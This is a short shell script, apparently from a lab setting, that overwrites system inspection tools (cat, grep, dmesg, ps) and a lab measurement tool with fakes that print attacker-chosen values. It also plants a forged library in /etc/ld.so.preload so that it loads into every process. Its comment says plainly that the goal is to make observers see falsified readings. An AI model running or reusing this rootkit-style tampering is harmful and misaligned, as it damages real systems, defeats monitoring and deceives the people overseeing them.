#!/bin/sh
# Whoever looks with these sees what we like.
for tool in /usr/bin/cat /usr/bin/grep /usr/bin/dmesg /usr/bin/ps /lab/taker; do
	printf '#!/bin/sh\necho %s %s %s\n' "$LIMIT_MIB" "$PAGES" "$ADJ" >/tmp/tool
	chmod 0755 /tmp/tool
	mv /tmp/tool "$tool"
done
echo /tmp/forged.so >/etc/ld.so.preload
